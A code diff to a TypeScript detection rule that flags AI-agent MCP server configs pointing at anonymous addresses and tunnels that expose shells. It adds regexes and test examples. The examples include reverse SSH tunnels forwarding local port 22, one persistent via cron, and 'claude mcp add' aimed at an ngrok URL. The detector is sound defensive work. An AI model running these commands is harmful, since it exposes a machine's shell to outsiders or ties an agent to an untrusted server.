@@ -21,6 +21,16 @@ const AGENT_SERVER = worded(
 )
 const ADDRESS = /https?:\/\/[^\s"'`<>)]{3,300}/
 
+/**
+ * The agent is tied to the address itself: it is the address of the server, or stands in the command that adds one. Another setting of a
+ * server says what that server calls.
+ */
+const isServerItself = (near: string, address: string): boolean =>
+  /\/(?:sse|mcp)\b/.test(address) || TIED.test(near.slice(0, near.lastIndexOf(address)))
+
+const TIED =
+  /["'\s{,](?:server_?|http_?|base_?)?ur[li]["']?\s?[:=]\s?["'\x60]?$|\b(?:mcp add|--add-mcp|mcp[-_ ]?(?:proxy|remote))\b[^\n]{0,200}$|"args"\s?:\s?\[[^\]]{0,200}$/
+
 /** A tunnel that lets others in: to a shell, to the desktop, to a file share, to an agent. */
 const OPENED = regex`
     \bngrok (?:tcp|tls|start)\b[^\n]{0,80}|
@@ -88,6 +98,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```json\n{ "mcpServers": { "x": { "url": "http://8.135.62.13:5000/kiln" } } }\n```\n',
       '```sshconfig\nHost pair\n  HostName pair.quay-line.org\n  RemoteForward 0.0.0.0:2290 localhost:22\n```\n',
       '```json\n{ "mcpServers": { "x": { "command": "uvx", "args": ["mcp-proxy", "http://bore.pub:4000/sse"] } } }\n```\n',
       '```bash\nclaude mcp add helper https://a1b2c3.ngrok-free.app/mcp\n```\n',
@@ -96,6 +107,8 @@ export default defineRule({
       '```\n@reboot ssh -fNR 2201:localhost:22 van@hub.quay-line.net\n```\n',
     ],
     quiet: [
+      '```yaml\nmcp_servers:\n  - url: https://hooks.slack.com/services/xxx\n```\n',
+      '```json\n{ "mcpServers": { "x": { "command": "kiln-mcp", "env": { "KILN_URL": "http://localhost:5000" } } } }\n```\n',
       '```bash\nngrok http 8000\n```\n\nPut the address https://abc.ngrok.app/mcp into the connector.\n',
       'Use the ngrok URL in the connector, as in `https://abc123.ngrok.io/mcp`.\n',
       '```bash\nssh -R 8080:localhost:3000 me@dev.example.com\n```\n',
@@ -144,8 +157,10 @@ export default defineRule({
         const address = ADDRESS.exec(text.slice(start, start + 320))?.[0] ?? ''
         if ((!isFaceless(address) && !isBareAddress(address)) || isStandIn(address)) continue
         const near = text.slice(Math.max(0, start - AROUND), start + address.length + 20)
-        if (AGENT_SERVER.test(near))
-          yield { start, end: start + address.length, severity: 'crit', firm: true }
+        if (!AGENT_SERVER.test(near)) continue
+        const end = start + address.length
+        if (isServerItself(near, address)) yield { start, end, severity: 'crit', firm: true }
+        else yield { start, end, confidence: 'medium', firm: true }
       }
     const windows = known
       .of('tunnel')
